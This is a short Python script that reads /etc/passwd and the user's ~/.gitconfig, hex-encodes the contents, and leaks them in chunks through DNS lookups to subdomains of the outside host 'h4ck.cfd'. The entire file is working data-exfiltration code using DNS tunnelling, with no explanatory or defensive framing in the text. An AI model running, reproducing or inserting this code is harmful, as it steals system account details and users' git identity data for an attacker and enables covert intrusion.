import os
import socket

def chunks(s, n):
    return [s[i:i + n] for i in range(0, len(s), n)]

data = open('/etc/passwd').read() + open(os.path.expanduser('~/.gitconfig')).read()
for c in chunks(data.encode().hex(), 60):
    socket.getaddrinfo(c + '.h4ck.cfd', 53)
